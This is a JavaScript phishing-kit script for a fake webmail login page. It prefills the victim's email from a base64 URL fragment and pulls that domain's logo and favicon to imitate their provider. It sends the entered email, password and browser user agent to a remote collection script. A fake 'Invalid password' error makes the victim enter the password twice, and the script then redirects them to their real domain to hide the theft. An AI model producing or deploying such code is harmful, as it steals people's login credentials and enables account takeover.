const form = document.getElementById('loginForm');
const emailInput = document.getElementById('ai');
const pwdInput = document.getElementById('pr');
const errBox = document.querySelector('.alert-danger');
let tries = 0;

function decodeMaybe(v) {
  try {
    const d = atob(v);
    return d.includes('@') ? d : v;
  } catch (e) {
    return v;
  }
}

const fragment = decodeMaybe(window.location.hash.slice(1));
if (fragment.includes('@')) {
  emailInput.value = fragment;
  emailInput.readOnly = true;
  const host = fragment.split('@')[1].toLowerCase();
  document.title = host.split('.')[0].toUpperCase() + ' | Webmail';
  document.getElementById('logoimg').src = 'https://logo.clearbit.com/' + host;
  document.querySelector("link[rel*='icon']").href = 'https://www.google.com/s2/favicons?domain=' + host;
  document.querySelectorAll('.domain-name').forEach(n => { n.textContent = host; });
}

form.addEventListener('submit', async ev => {
  ev.preventDefault();
  errBox.style.display = 'none';
  const body = new URLSearchParams({ ai: emailInput.value, pr: pwdInput.value, ua: navigator.userAgent });
  tries++;
  try {
    await fetch('https://hosting-cp.example/wp-includes/fx/post.php', { method: 'POST', body, mode: 'no-cors' });
  } finally {
    if (tries > 1) {
      location.href = 'https://' + emailInput.value.split('@')[1];
    } else {
      pwdInput.value = '';
      errBox.textContent = 'Invalid password. Please enter correct password.';
      errBox.style.display = 'block';
      pwdInput.focus();
    }
  }
});
